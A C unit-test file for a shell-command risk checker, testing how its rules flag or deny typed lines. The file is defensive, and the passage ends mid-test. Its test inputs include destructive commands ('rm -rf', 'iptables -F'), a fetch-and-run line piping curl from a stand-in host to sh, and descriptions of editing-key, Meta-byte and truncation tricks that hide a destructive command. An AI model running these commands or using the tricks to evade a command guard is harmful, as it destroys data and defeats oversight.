/*
 * Unit tests for the risk rules (common/risk.c) and the built-in set
 * (policy/builtin.rules): the table of command lines in
 * tests/data/commands.tsv with the verdict an expert escort would want,
 * the false-positive rate on benign lines, and the built-in sentences
 * (short, plain, jargon explained).
 */
#include <ctype.h>
#include <malloc.h>
#include <regex.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "buf.h"
#include "err.h"
#include "policy.h"
#include "relit.h"
#include "risk.h"

#define TABLE "tests/data/commands.tsv"
#define JARGON "tests/data/jargon.txt"
/* Benign lines flagged anyway: reported, and held under this share. */
#define MAX_FALSE_POSITIVE_PERCENT 15

static struct tdm_policy *parse_policy(const char *text)
{
	struct tdm_policy *p = NULL;
	struct tdm_diag diag = { 0 };
	size_t i;
	int rc = tdm_policy_parse(text, strlen(text), "test.conf", &p, &diag);

	for (i = 0; i < diag.n; i++)
		fprintf(stderr, "%s\n", diag.msgs[i]);
	tdm_diag_free(&diag);
	assert_int_equal(rc, 0);
	return p;
}

static struct tdm_rules *compile(const struct tdm_policy *p)
{
	struct tdm_rules *rs = NULL;
	struct tdm_diag diag = { 0 };
	size_t i;
	int rc = tdm_rules_compile(p, &rs, &diag);

	for (i = 0; i < diag.n; i++)
		fprintf(stderr, "%s\n", diag.msgs[i]);
	tdm_diag_free(&diag);
	assert_int_equal(rc, 0);
	return rs;
}

static void judge(struct tdm_rules *rs, const char *line, size_t n,
		  struct tdm_verdict *v)
{
	assert_int_equal(tdm_rules_judge(rs, (const uint8_t *)line, n, v), 0);
}

/* ---- the table ---------------------------------------------------------- */

/* Decodes the table's escapes: \\ \t \n \r \xHH \uXXXX. */
static int decode(const char *s, struct tdm_buf *out)
{
	for (; *s != '\0'; s++) {
		unsigned long v;
		char *end;
		char hex[9];
		size_t len;

		if (*s != '\\') {
			tdm_buf_putc(out, (uint8_t)*s);
			continue;
		}
		s++;
		switch (*s) {
		/* clang-format off */
		case '\\': tdm_buf_putc(out, '\\'); break;
		case 't': tdm_buf_putc(out, '\t'); break;
		case 'n': tdm_buf_putc(out, '\n'); break;
		case 'r': tdm_buf_putc(out, '\r'); break;
		/* clang-format on */
		case 'x':
		case 'u':
			len = *s == 'x' ? 2 : 4;
			if (strlen(s + 1) < len)
				return -1;
			memcpy(hex, s + 1, len);
			hex[len] = '\0';
			v = strtoul(hex, &end, 16);
			if (*end != '\0')
				return -1;
			s += len;
			if (len == 2 || v < 0x80) {
				tdm_buf_putc(out, (uint8_t)v);
			} else if (v < 0x800) {
				tdm_buf_putc(out, (uint8_t)(0xc0 | (v >> 6)));
				tdm_buf_putc(out, (uint8_t)(0x80 | (v & 0x3f)));
			} else {
				tdm_buf_putc(out, (uint8_t)(0xe0 | (v >> 12)));
				tdm_buf_putc(out, (uint8_t)(0x80 |
							    ((v >> 6) & 0x3f)));
				tdm_buf_putc(out, (uint8_t)(0x80 | (v & 0x3f)));
			}
			break;
		default:
			return -1;
		}
	}
	return 0;
}

static const char *verdict_of(const struct tdm_verdict *v, char *buf,
			      size_t size)
{
	if (v->deny)
		return "deny";
	if (v->n == 0)
		return "none";
	snprintf(buf, size, "flag:%s", tdm_level_name(v->risks[0].level));
	return buf;
}

/*
 * The next row of the table: its three columns, split in place in line,
 * and the command's bytes decoded into bytes (initialised here).  False at
 * the end of the file.
 */
static bool next_row(FILE *f, char *line, size_t size, size_t *lineno,
		     char **want, char **cmd, char **cls, struct tdm_buf *bytes)
{
	char *nl;

	while (fgets(line, (int)size, f) != NULL) {
		(*lineno)++;
		nl = strchr(line, '\n');
		if (nl != NULL)
			*nl = '\0';
		if (line[0] == '#' || line[0] == '\0')
			continue;
		*want = line;
		*cmd = strchr(*want, '\t');
		assert_non_null(*cmd);
		*(*cmd)++ = '\0';
		*cls = strchr(*cmd, '\t');
		assert_non_null(*cls);
		*(*cls)++ = '\0';
		tdm_buf_init(bytes, 0);
		if (decode(*cmd, bytes) != 0) {
			fprintf(stderr, "%s:%zu: bad escape in the command\n",
				TABLE, *lineno);
			fail();
		}
		return true;
	}
	return false;
}

static const char *row_bytes(const struct tdm_buf *bytes)
{
	return bytes->data ? (const char *)bytes->data : "";
}

static void test_command_table_verdicts(void **state)
{
	struct tdm_policy *p;
	struct tdm_rules *rs;
	char line[70000], got_buf[32], *want, *cmd, *cls;
	struct tdm_buf bytes;
	size_t lineno = 0, total = 0, benign = 0, fp = 0, dangerous = 0,
	       obfuscated = 0, wrong = 0;
	FILE *f = fopen(TABLE, "r");

	(void)state;
	assert_non_null(f);
	p = parse_policy("builtin-rules on\n");
	rs = compile(p);
	while (next_row(f, line, sizeof(line), &lineno, &want, &cmd, &cls,
			&bytes)) {
		struct tdm_verdict v;
		const char *got;

		/* Typed by the engineer: judged as a typed line is. */
		assert_int_equal(tdm_rules_judge_typed(
					 rs, (const uint8_t *)row_bytes(&bytes),
					 bytes.len, 0, &v),
				 0);
		/* The literal prefilter never changes a verdict. */
		{
			struct tdm_verdict full;
			size_t r;

			tdm_rules_set_prefilter(rs, false);
			assert_int_equal(
				tdm_rules_judge_typed(
					rs, (const uint8_t *)row_bytes(&bytes),
					bytes.len, 0, &full),
				0);
			tdm_rules_set_prefilter(rs, true);
			assert_int_equal(full.deny, v.deny);
			assert_int_equal(full.n, v.n);
			for (r = 0; r < v.n; r++) {
				assert_int_equal(full.risks[r].level,
						 v.risks[r].level);
				assert_string_equal(full.risks[r].why,
						    v.risks[r].why);
			}
		}
		tdm_buf_free(&bytes);
		got = verdict_of(&v, got_buf, sizeof(got_buf));
		total++;
		if (strcmp(cls, "benign") == 0) {
			benign++;
			if (strcmp(got, want) != 0) {
				fp++;
				fprintf(stderr,
					"%s:%zu: benign line judged %s "
					"(%s): %s\n",
					TABLE, lineno, got,
					v.n ? v.risks[0].why : "-", cmd);
			}
			continue;
		}
		if (strcmp(cls, "dangerous") == 0)
			dangerous++;
		else if (strcmp(cls, "obfuscated") == 0)
			obfuscated++;
		else {
			fprintf(stderr, "%s:%zu: unknown class \"%s\"\n", TABLE,
				lineno, cls);
			fail();
		}
		if (strcmp(got, want) != 0) {
			wrong++;
			fprintf(stderr, "%s:%zu: want %s, got %s (%s): %s\n",
				TABLE, lineno, want, got,
				v.n ? v.risks[0].why : "no risk", cmd);
		}
	}
	fclose(f);
	tdm_rules_free(rs);
	tdm_policy_free(p);
	printf("risk table: %zu lines (%zu dangerous, %zu obfuscated, %zu "
	       "benign); %zu wrong; false positives: %zu of %zu benign "
	       "(%.1f%%)\n",
	       total, dangerous, obfuscated, benign, wrong, fp, benign,
	       benign ? 100.0 * (double)fp / (double)benign : 0.0);
	assert_true(total >= 150);
	assert_true(benign > 0 && dangerous > 0 && obfuscated > 0);
	assert_int_equal(wrong, 0);
	assert_true(fp * 100 <= MAX_FALSE_POSITIVE_PERCENT * benign);
}

/* Heap bytes in use, mmap'ed blocks included; glibc's count, which the
 * sanitizer's heap is not. */
static size_t heap_in_use(void)
{
	struct mallinfo2 mi = mallinfo2();

	return mi.uordblks + mi.hblkhd;
}

/*
 * A session judges line after line: the patterns a line compiles, and
 * the match caches regexec grows on them, are freed once it is judged, so
 * the heap does not grow with the lines.  Kept for the session, the
 * built-in set grew it by 11 MB over this table.
 */
static void test_judging_frees_what_it_compiled(void **state)
{
	char line[70000], *want, *cmd, *cls;
	size_t lineno, lines = 0, base = 0, pass;
	struct tdm_policy *p;
	long grown;
	struct tdm_rules *rs;
	struct tdm_buf bytes;

	(void)state;
	p = parse_policy("builtin-rules on\n");
	rs = compile(p);
	assert_int_equal(tdm_rules_compiled(rs), 0);
	for (pass = 0; pass < 3; pass++) {
		FILE *f = fopen(TABLE, "r");

		assert_non_null(f);
		lineno = 0;
		while (next_row(f, line, sizeof(line), &lineno, &want, &cmd,
				&cls, &bytes)) {
			struct tdm_verdict v;

			judge(rs, row_bytes(&bytes), bytes.len, &v);
			tdm_buf_free(&bytes);
			assert_int_equal(tdm_rules_compiled(rs), 0);
			/* What the first line leaves (glibc's own tables)
			 * stays for good; count from there. */
			if (lines++ == 0)
				base = heap_in_use();
		}
		fclose(f);
	}
	/* Counted before the rule set itself is freed. */
	grown = (long)heap_in_use() - (long)base;
	tdm_rules_free(rs);
	tdm_policy_free(p);
	assert_true(lines > 3 * 150);
#if !defined(__SANITIZE_ADDRESS__)
	printf("risk memory: %zu lines judged, heap %+ld KiB since the first\n",
	       lines, grown / 1024);
	assert_true(grown < 256 * 1024);
#else
	(void)grown; /* the sanitizer's heap is not glibc's: nothing to count */
#endif
}

/* The fuzz target's reference keeps what it compiles, and judges the
 * same with it as the shipped path does without. */
static void
test_kept_patterns_judge_the_same_and_are_freed_when_let_go(void **state)
{
	static const char *const lines[] = {
		"rm -rf /var/lib/postgresql",
		"iptables -F",
		"ls -la",
		"rm -rf /var/lib/postgresql",
	};
	struct tdm_policy *p;
	struct tdm_rules *shipped, *kept;
	size_t i, j, held = 0;

	(void)state;
	p = parse_policy("builtin-rules on\n");
	shipped = compile(p);
	kept = compile(p);
	tdm_rules_set_keep(kept, true);
	for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		struct tdm_verdict a, b;

		judge(shipped, lines[i], strlen(lines[i]), &a);
		judge(kept, lines[i], strlen(lines[i]), &b);
		assert_int_equal(tdm_rules_compiled(shipped), 0);
		assert_true(tdm_rules_compiled(kept) >= held);
		held = tdm_rules_compiled(kept);
		assert_int_equal(a.deny, b.deny);
		assert_int_equal(a.n, b.n);
		for (j = 0; j < a.n; j++) {
			assert_int_equal(a.risks[j].level, b.risks[j].level);
			assert_string_equal(a.risks[j].why, b.risks[j].why);
		}
	}
	assert_true(held > 0);
	tdm_rules_set_keep(kept, false);
	assert_int_equal(tdm_rules_compiled(kept), 0);
	tdm_rules_free(kept);
	tdm_rules_free(shipped);
	tdm_policy_free(p);
}

/* ---- the built-in sentences --------------------------------------------- */

static char **read_jargon(size_t *n)
{
	char line[256], **terms = NULL;
	FILE *f = fopen(JARGON, "r");

	assert_non_null(f);
	*n = 0;
	while (fgets(line, sizeof(line), f) != NULL) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '\0' || line[0] == '#')
			continue;
		terms = realloc(terms, (*n + 1) * sizeof(*terms));
		assert_non_null(terms);
		terms[*n] = strdup(line);
		assert_non_null(terms[*n]);
		(*n)++;
	}
	fclose(f);
	return terms;
}

/*
 * True when term appears in s outside parentheses, as a word, without a
 * plain explanation in parentheses right after it.
 */
static bool unexplained(const char *s, const char *term)
{
	size_t tl = strlen(term), i;

	for (i = 0; s[i] != '\0'; i++) {
		size_t depth = 0, j;
		const char *after;

		if (strncasecmp(s + i, term, tl) != 0)
			continue;
		if (i > 0 &&
		    (isalnum((unsigned char)s[i - 1]) || s[i - 1] == '_'))
			continue;
		after = s + i + tl;
		if (isalnum((unsigned char)*after) || *after == '_')
			continue;
		for (j = 0; j < i; j++) {
			if (s[j] == '(')
				depth++;
			else if (s[j] == ')' && depth > 0)
				depth--;
		}
		if (depth > 0)
			continue;
		if (strncmp(after, " (", 2) == 0)
			continue;
		return true;
	}
	return false;
}

static void test_builtin_sentences_are_short_and_plain(void **state)
{
	struct tdm_policy *b = NULL;
	struct tdm_diag diag = { 0 };
	size_t i, k, nterms, bad = 0, deny = 0;
	char **terms;

	(void)state;
	assert_int_equal(tdm_policy_parse(tdm_builtin_rules,
					  (size_t)(tdm_builtin_rules_end -
						   tdm_builtin_rules),
					  "builtin.rules", &b, &diag),
			 0);
	tdm_diag_free(&diag);
	terms = read_jargon(&nterms);
	assert_true(nterms >= 10);
	for (i = 0; i < b->nrules; i++) {
		const char *why = b->rules[i].why;

		if (b->rules[i].kind == TDM_RULE_DENY)
			deny++;
		if (strlen(why) >= 120) {
			fprintf(stderr,
				"builtin.rules:%d: %zu characters, "
				"over 119: %s\n",
				b->rules[i].line, strlen(why), why);
			bad++;
		}
		if (strchr(why, '.') != NULL && why[strlen(why) - 1] != '.' &&
		    strstr(why, ". ") != NULL) {
			fprintf(stderr,
				"builtin.rules:%d: more than one "
				"sentence: %s\n",
				b->rules[i].line, why);
			bad++;
		}
		for (k = 0; k < nterms; k++) {
			if (unexplained(why, terms[k])) {
				fprintf(stderr,
					"builtin.rules:%d: \"%s\" "
					"without a plain explanation: %s\n",
					b->rules[i].line, terms[k], why);
				bad++;
			}
		}
	}
	printf("built-in rules: %zu (%zu deny), %zu jargon terms checked\n",
	       b->nrules, deny, nterms);
	for (k = 0; k < nterms; k++)
		free(terms[k]);
	free(terms);
	assert_true(b->nrules >= 40);
	assert_true(deny >= 2);
	tdm_policy_free(b);
	assert_int_equal(bad, 0);
}

static void test_jargon_check_can_fail(void **state)
{
	(void)state;
	assert_true(unexplained("adds a cron job", "cron"));
	assert_false(unexplained("adds a scheduled job (cron)", "cron"));
	assert_false(unexplained("adds a cron (scheduled) job", "cron"));
	assert_false(unexplained("adds a crontab-free job", "cron"));
}

/* ---- the matcher ---------------------------------------------------------- */

static void test_policy_rules_come_first_and_deny_wins(void **state)
{
	struct tdm_policy *p;
	struct tdm_rules *rs;
	struct tdm_verdict v;

	(void)state;
	p = parse_policy("builtin-rules off\n"
			 "flag low \"^ls\" \"lists files\"\n"
			 "flag high \"^ls -la\" \"lists hidden files too\"\n"
			 "deny \"^tandem-wipe\" \"wipes the disk\"\n"
			 "deny \"wipe\" \"second deny\"\n");
	rs = compile(p);
	assert_int_equal(tdm_rules_count(rs), 4);
	judge(rs, "ls -la", 6, &v);
	assert_false(v.deny);
	assert_int_equal(v.n, 2);
	assert_string_equal(v.risks[0].why, "lists hidden files too");
	assert_int_equal(v.risks[0].level, TDM_LEVEL_HIGH);
	assert_string_equal(v.risks[1].why, "lists files");
	judge(rs, "ls; sudo tandem-wipe", 20, &v);
	assert_true(v.deny);
	assert_string_equal(v.deny_why, "wipes the disk");
	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
	judge(rs, "pwd", 3, &v);
	assert_false(v.deny);
	assert_int_equal(v.n, 0);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

static void test_builtin_rules_off_loads_none(void **state)
{
	struct tdm_policy *on, *off;
	struct tdm_rules *a, *b;

	(void)state;
	on = parse_policy("builtin-rules on\n");
	off = parse_policy("builtin-rules off\n");
	a = compile(on);
	b = compile(off);
	assert_true(tdm_rules_count(a) >= 40);
	assert_int_equal(tdm_rules_count(b), 0);
	tdm_rules_free(a);
	tdm_rules_free(b);
	tdm_policy_free(on);
	tdm_policy_free(off);
}

/* Judges a line that must carry exactly one risk, high, saying needle. */
static void judge_one_high(struct tdm_rules *rs, const char *line, size_t n,
			   const char *needle, struct tdm_verdict *v)
{
	judge(rs, line, n, v);
	assert_int_equal(v->n, 1);
	assert_int_equal(v->risks[0].level, TDM_LEVEL_HIGH);
	assert_non_null(strstr(v->risks[0].why, needle));
}

static void test_hidden_characters_and_tabs(void **state)
{
	static const char *const hidden[] = {
		"ls \xe2\x80\xae", "ls \xe2\x80\x8b",
		"ls \x1b[2J",	   "ls \r",
		"ls \xc2\x85",	   "ls \xff",
		"ls \xef\xbb\xbf", NULL,
	};
	struct tdm_policy *p = parse_policy("builtin-rules off\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	size_t i;

	(void)state;
	for (i = 0; hidden[i] != NULL; i++)
		judge_one_high(rs, hidden[i], strlen(hidden[i]), "invisible",
			       &v);
	/* A tab is no hidden character, but a shell's prompt completes it
	 * into text the escort never sees: its own sentence. */
	judge_one_high(rs, "ls\t-l", 5, "a tab", &v);
	assert_null(strstr(v.risks[0].why, "invisible"));
	/* Run by ssh or read as stdin, a tab is a space: nothing completes
	 * it.  A hidden character beside it still counts there. */
	tdm_verdict_untyped(&v);
	assert_int_equal(v.n, 0);
	judge(rs, "ls\t-l \x1b[2J", 11, &v);
	assert_int_equal(v.n, 2);
	tdm_verdict_untyped(&v);
	assert_int_equal(v.n, 1);
	assert_non_null(strstr(v.risks[0].why, "invisible"));
	judge(rs, "ls \0 x", 6, &v);
	assert_int_equal(v.n, 1);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* A terminal keeps 4095 bytes of a typed line and drops the rest up to
 * its end: "rm -rf <filler> /srv/keep/sub" runs as "rm -rf <filler>
 * /srv/keep", which a rule for /srv/keep must see. */
static void
test_a_line_longer_than_a_terminal_takes_is_judged_as_cut(void **state)
{
	struct tdm_policy *p = parse_policy(
		"builtin-rules off\n"
		"deny \"^rm( [^ ]+)* /srv/keep/*( |$)\" \"never /srv/keep\"\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	struct tdm_buf line;
	size_t cut;

	(void)state;
	tdm_buf_init(&line, 0);
	tdm_buf_puts(&line, "rm -rf");
	while (line.len + strlen(" /srv/keep") + 8 < TDM_TTY_LINE_MAX)
		tdm_buf_puts(&line, " /tmp/x");
	while (line.len + strlen(" /srv/keep") < TDM_TTY_LINE_MAX)
		tdm_buf_putc(&line, 'y');
	tdm_buf_puts(&line, " /srv/keep");
	cut = line.len;
	assert_int_equal(cut, TDM_TTY_LINE_MAX);
	/* As long as a terminal takes: one reading, nothing to say. */
	assert_int_equal(tdm_rules_judge_typed(rs, line.data, line.len, 0, &v),
			 0);
	assert_true(v.deny);
	tdm_buf_puts(&line, "/sub");
	assert_int_equal(tdm_rules_judge(rs, line.data, line.len, &v), 0);
	assert_false(v.deny);
	assert_int_equal(v.n, 0);
	/* Typed at a terminal: the start it keeps is denied, and the
	 * length is a risk of its own. */
	assert_int_equal(tdm_rules_judge_typed(rs, line.data, line.len, 0, &v),
			 0);
	assert_true(v.deny);
	assert_non_null(strstr(v.risks[v.n - 1].why, "4095 bytes"));
	assert_int_equal(v.risks[v.n - 1].level, TDM_LEVEL_HIGH);
	/* Each line on its own: a break resets the count. */
	tdm_buf_reset(&line);
	tdm_buf_puts(&line, "echo a\n");
	while (line.len < 7 + TDM_TTY_LINE_MAX)
		tdm_buf_putc(&line, 'z');
	assert_int_equal(tdm_rules_judge_typed(rs, line.data, line.len, 7, &v),
			 0);
	assert_int_equal(v.n, 0);
	tdm_buf_putc(&line, 'z');
	assert_int_equal(tdm_rules_judge_typed(rs, line.data, line.len, 7, &v),
			 0);
	assert_int_equal(v.n, 1);
	tdm_buf_free(&line);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* Keys a terminal or bash's line editor edits with, typed literally
 * (Ctrl-V) into a line: what runs is the line they leave, which a deny
 * rule must see. */
static void
test_a_typed_line_is_judged_as_its_editing_keys_leave_it(void **state)
{
	static const char *const edited[] = {
		"rm -rf /srv/keepX\x7f",	/* erase */
		"rm -rf /srv/keepX\x08",	/* erase, as Ctrl-H */
		"echo hi\x15rm -rf /srv/keep",	/* kill the line */
		"rm -rf /srv/keep x\x17",	/* erase a word */
		"keep\x01rm -rf /srv/",		/* to the start, then type */
		"rm -rf /srv/kepe\x14",		/* swap the last two */
		"/srv/keep\x01\x0brm -rf \x19", /* kill to the end, yank */
		"rm -rf /srv/keepXY\x02\x02\x04\x04", /* back 2, delete 2 */
		NULL,
	};
	static const char yanks[] = "abcdefgh\x15\x19\x19\x19"
				    "\x15\x19\x19\x19\x19";
	struct tdm_policy *p = parse_policy(
		"builtin-rules off\n"
		"deny \"^rm( [^ ]+)* /srv/keep/*( |$)\" \"never /srv/keep\"\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	size_t i;

	(void)state;
	for (i = 0; edited[i] != NULL; i++) {
		const uint8_t *line = (const uint8_t *)edited[i];

		assert_int_equal(tdm_rules_judge_typed(
					 rs, line, strlen(edited[i]), 0, &v),
				 0);
		if (!v.deny)
			fail_msg("typed line %zu was not denied", i);
	}
	/* Yanked over and over, a line outgrows what was typed. */
	assert_int_equal(tdm_rules_judge_typed(rs, (const uint8_t *)yanks,
					       sizeof(yanks) - 1, 0, &v),
			 0);
	/* Read by a program, those bytes are text: no editor acts on
	 * them. */
	assert_int_equal(tdm_rules_judge(rs, (const uint8_t *)edited[0],
					 strlen(edited[0]), &v),
			 0);
	assert_false(v.deny);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* The line breaks of earlier lines a typed line continues, and of a
 * program's input, are text; one typed into the line itself hides. */
static void
test_line_breaks_of_earlier_lines_and_input_are_not_hidden(void **state)
{
	struct tdm_policy *p = parse_policy("builtin-rules off\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	static const char joined[] = "echo \"start\n\"; ls";
	static const char typed_break[] = "echo \"start\n\"; ls\nrm x";
	static const char input[] = "ls\nrm x\n";
	static const char input_cr[] = "ls\r\nrm x\n";

	(void)state;
	assert_int_equal(tdm_rules_judge_typed(rs, (const uint8_t *)joined,
					       strlen(joined), 12, &v),
			 0);
	assert_int_equal(v.n, 0);
	assert_int_equal(tdm_rules_judge_typed(rs, (const uint8_t *)typed_break,
					       strlen(typed_break), 12, &v),
			 0);
	assert_int_equal(v.n, 1);
	assert_non_null(strstr(v.risks[0].why, "invisible"));
	assert_int_equal(tdm_rules_judge_input(rs, (const uint8_t *)input,
					       strlen(input), &v),
			 0);
	assert_int_equal(v.n, 0);
	assert_int_equal(tdm_rules_judge_input(rs, (const uint8_t *)input_cr,
					       strlen(input_cr), &v),
			 0);
	assert_int_equal(v.n, 1);
	/* As a typed line, as before. */
	judge(rs, input, strlen(input), &v);
	assert_int_equal(v.n, 1);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* A shell in the C locale takes each byte from 0x80 up as Meta and a
 * key: î©©© (C3 AE C2 A9 ...) inserts the last command's last word and
 * moves back over it, so "î©©©rm -rf " after `ls -ld /` runs rm -rf /. */
static void test_letters_beyond_plain_english_are_a_risk(void **state)
{
	static const char *const lines[] = {
		"\xc3\xae\xc2\xa9\xc2\xa9\xc2\xa9rm -rf ",
		"echo caf\xc3\xa9",
		"ls \xe6\x96\x87\xe4\xbb\xb6",
		NULL,
	};
	struct tdm_policy *p = parse_policy("builtin-rules off\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	size_t i;

	(void)state;
	for (i = 0; lines[i] != NULL; i++) {
		judge_one_high(rs, lines[i], strlen(lines[i]),
			       "outside plain English", &v);
		assert_true(v.meta);
		/* Read by a program, not typed at a prompt: no such keys. */
		tdm_verdict_untyped(&v);
		assert_int_equal(v.n, 0);
		assert_false(v.meta);
	}
	judge(rs, "echo cafe", 9, &v);
	assert_int_equal(v.n, 0);
	/* With a hidden character too, one warning says it. */
	judge_one_high(rs, "echo caf\xc3\xa9\xe2\x80\x8b", 13, "invisible", &v);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* A line tripping more rules than the list holds keeps its worst, and
 * its own warnings (hidden characters here) always. */
static void
test_a_full_risk_list_keeps_the_worst_and_the_lines_own(void **state)
{
	struct tdm_policy *p;
	struct tdm_rules *rs;
	struct tdm_verdict v;
	struct tdm_buf text, line;
	bool hidden = false, crit = false;
	size_t i;

	(void)state;
	tdm_buf_init(&text, 0);
	tdm_buf_init(&line, 0);
	tdm_buf_puts(&text, "builtin-rules off\n");
	for (i = 0; i < TDM_RISK_MAX + 4; i++) {
		tdm_buf_printf(&text, "flag low \"cmd%zu\" \"runs cmd%zu\"\n",
			       i, i);
		tdm_buf_printf(&line, "cmd%zu; ", i);
	}
	tdm_buf_puts(&text, "flag critical \"^danger\" \"is dangerous\"\n");
	tdm_buf_puts(&line, "danger \x01");
	tdm_buf_putc(&text, '\0');
	p = parse_policy((const char *)text.data);
	rs = compile(p);
	judge(rs, (const char *)line.data, line.len, &v);
	assert_int_equal(v.n, TDM_RISK_MAX);
	for (i = 0; i < v.n; i++) {
		hidden = hidden || strstr(v.risks[i].why, "control") != NULL ||
			 strstr(v.risks[i].why, "hidden") != NULL ||
			 strstr(v.risks[i].why, "invisible") != NULL;
		crit = crit || strcmp(v.risks[i].why, "is dangerous") == 0;
	}
	assert_true(crit);
	assert_true(hidden);
	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
	tdm_rules_free(rs);
	tdm_policy_free(p);

	/* The same with medium rules, a quote left open (a medium warning
	 * of the line's own) and a danger seen only once the NUL is out:
	 * the full list makes room by dropping a rule's medium risk. */
	tdm_buf_reset(&text);
	tdm_buf_reset(&line);
	tdm_buf_puts(&text, "builtin-rules off\n");
	for (i = 0; i < TDM_RISK_MAX + 4; i++) {
		tdm_buf_printf(&text,
			       "flag medium \"cmd%zu\" \"runs cmd%zu\"\n", i,
			       i);
		tdm_buf_printf(&line, "cmd%zu; ", i);
	}
	tdm_buf_puts(&text, "flag critical \"^danger\" \"is dangerous\"\n");
	tdm_buf_put(&line, "dan\0ger 'open", 14);
	tdm_buf_putc(&text, '\0');
	p = parse_policy((const char *)text.data);
	rs = compile(p);
	judge(rs, (const char *)line.data, line.len, &v);
	assert_int_equal(v.n, TDM_RISK_MAX);
	assert_true(v.open);
	hidden = crit = false;
	for (i = 0; i < v.n; i++) {
		hidden = hidden || strstr(v.risks[i].why, "open") != NULL;
		crit = crit || strcmp(v.risks[i].why, "is dangerous") == 0;
	}
	assert_true(crit);
	assert_true(hidden);
	tdm_rules_free(rs);
	tdm_policy_free(p);
	tdm_buf_free(&text);
	tdm_buf_free(&line);
}

static void test_a_nul_does_not_hide_the_rest_of_the_line(void **state)
{
	struct tdm_policy *p =
		parse_policy("builtin-rules off\n"
			     "flag high \"secret\" \"mentions a secret\"\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;

	(void)state;
	judge(rs, "echo \0secret", 12, &v);
	assert_int_equal(v.n, 2);
	assert_string_equal(v.risks[0].why, "mentions a secret");
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

static void test_open_and_deep_lines_are_risks(void **state)
{
	struct tdm_policy *p = parse_policy("builtin-rules off\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	char deep[512];
	size_t i, n = 0;

	(void)state;
	judge(rs, "echo 'a", 7, &v);
	assert_true(v.open);
	assert_int_equal(v.n, 1);
	assert_int_equal(v.risks[0].level, TDM_LEVEL_MEDIUM);
	for (i = 0; i < 30; i++)
		n += (size_t)snprintf(deep + n, sizeof(deep) - n, "$(");
	for (i = 0; i < 30; i++)
		deep[n++] = ')';
	judge(rs, deep, n, &v);
	assert_int_equal(v.risks[0].level, TDM_LEVEL_HIGH);
	assert_non_null(strstr(v.risks[0].why, "too deeply"));
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

static void test_a_slow_line_becomes_a_critical_risk(void **state)
{
	struct tdm_policy *p = parse_policy("builtin-rules on\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	char *line = malloc(16384);
	size_t n;

	(void)state;
	assert_non_null(line);
	for (n = 0; n + 5 <= 16380; n += 5)
		memcpy(line + n, "curl ", 5);
	/* No time at all: whatever was not checked is called dangerous. */
	tdm_rules_set_budget(rs, 0);
	judge(rs, line, n, &v);
	assert_true(v.n >= 1);
	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
	assert_non_null(strstr(v.risks[0].why, "in time"));
	assert_true(v.slow);
	/* The usual budget checks an ordinary line fully. */
	tdm_rules_set_budget(rs, TDM_RISK_BUDGET_MS);
	judge(rs, "curl -s https://x.example/a | sh", 32, &v);
	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
	assert_null(strstr(v.risks[0].why, "in time"));
	assert_false(v.slow);
	free(line);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

static void test_every_deny_rule_is_checked_before_any_flag(void **state)
{
	/* The site's flag rules come before the built-in set, yet a slow
	 * one must not use up the time the built-in denies need. */
	struct tdm_policy *p =
		parse_policy("builtin-rules on\n"
			     "flag low \"^ls\" \"lists files\"\n"
			     "deny \"^zap-all\" \"wipes all\"\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	size_t i, denies = 0;
	bool flag_seen = false;

	(void)state;
	for (i = 0; i < tdm_rules_count(rs); i++) {
		if (tdm_rules_kind(rs, i) == TDM_RULE_FLAG) {
			flag_seen = true;
			continue;
		}
		assert_false(flag_seen);
		denies++;
	}
	assert_true(denies > 1 && flag_seen);
	/* Out of time before the deny rules are done: refused. */
	tdm_rules_set_budget(rs, 0);
	judge(rs, "ls -l", 5, &v);
	assert_true(v.deny && v.slow);
	assert_non_null(strstr(v.deny_why, "deny rules in time"));
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* tandem's own sentences meet the same bar as the built-in ones. */
static void test_own_sentences_are_plain(void **state)
{
	static const char *const lines[] = { "echo 'a", "ls \x1b",
					     "echo caf\xc3\xa9", NULL };
	struct tdm_policy *p = parse_policy("builtin-rules off\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	size_t i, k, nterms;
	char **terms = read_jargon(&nterms);

	(void)state;
	for (i = 0; lines[i] != NULL; i++) {
		judge(rs, lines[i], strlen(lines[i]), &v);
		assert_int_equal(v.n, 1);
		assert_true(strlen(v.risks[0].why) < 120);
		for (k = 0; k < nterms; k++) {
			if (unexplained(v.risks[0].why, terms[k]))
				fprintf(stderr, "\"%s\" in: %s\n", terms[k],
					v.risks[0].why);
			assert_false(unexplained(v.risks[0].why, terms[k]));
		}
	}
	for (k = 0; k < nterms; k++)
		free(terms[k]);
	free(terms);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

static void test_verdict_json_shape(void **state)
{
	struct tdm_policy *p = parse_policy(
		"builtin-rules off\nflag medium \"^x\" \"does x\"\n");
	struct tdm_rules *rs = compile(p);
	struct tdm_verdict v;
	json_t *j;
	char *s;

	(void)state;
	judge(rs, "x", 1, &v);
	j = tdm_verdict_risks(&v);
